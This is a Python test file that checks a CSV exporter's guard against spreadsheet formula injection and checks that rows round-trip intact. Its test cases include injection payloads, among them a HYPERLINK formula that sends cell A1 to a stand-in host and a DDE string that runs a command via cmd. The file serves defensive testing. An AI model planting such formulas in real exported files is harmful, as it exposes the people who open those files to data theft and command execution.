"""CSV: every row comes back as it was, and no cell is a formula."""

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from promptlathe.evaluation.exports.spreadsheet import guarded
from tests.evaluation.exports.conftest import Exported


def rows(text: str) -> list[dict[str, str]]:
    assert text[0] == "\ufeff"
    return list(csv.DictReader(StringIO(text[1:], newline="")))


def test_a_row_has_all_that_is_needed_to_read_it_alone(exported: Exported) -> None:
    right, wrong, unparsed, error = rows(exported("csv", {"none": "cw?!"}, count=4))
    assert right["answer"] == right["expected"]
    assert (right["prompt"], right["verdict"], right["text"]) == (
        "none",
        "correct",
        f"The answer is {right['expected']}.",
    )
    assert (right["prompt_tokens"], right["completion_tokens"], right["seconds"]) == ("120", "8", "0.1")
    assert (right["repeat"], right["error"], right["task"]) == ("0", "", "decimal-comparison")
    assert wrong["verdict"] == "wrong"
    assert wrong["answer"] != wrong["expected"]
    assert (unparsed["verdict"], unparsed["answer"], unparsed["reason"]) == ("unparsed", "", "no choice")
    assert (error["verdict"], error["text"], error["error"], error["seconds"]) == (
        "error",
        "",
        "too long",
        "",
    )


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.org/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r\n=1+1",
        "  =1+1",
        "＝1+1",
        "'=1+1",
    ],
)
def test_a_formula_stays_text(exported: Exported, text: str) -> None:
    (row,) = rows(exported("csv", {"a": "c"}, count=1, text=text, question=text))
    assert row["text"] == row["question"] == f"'{text}"


@pytest.mark.parametrize("text", ["13.8", "-3.5", "+7", "a=b", "", "是 =1", "x\n=1", None, 3, -0.5, True])
def test_what_no_spreadsheet_evaluates_is_left_alone(text: str | float | None) -> None:
    assert guarded(text) is text


@given(st.text())
def test_taking_one_apostrophe_away_gives_the_text_back(text: str) -> None:
    assert str(guarded(text)).removeprefix("'") == text


def test_line_breaks_quotes_and_chinese_come_back(exported: Exported) -> None:
    text = '他说："13.8",\r\n\n大。 , ; \u2028'
    (row,) = rows(exported("csv", {"a": "c"}, count=1, text=text))
    assert row["text"] == text
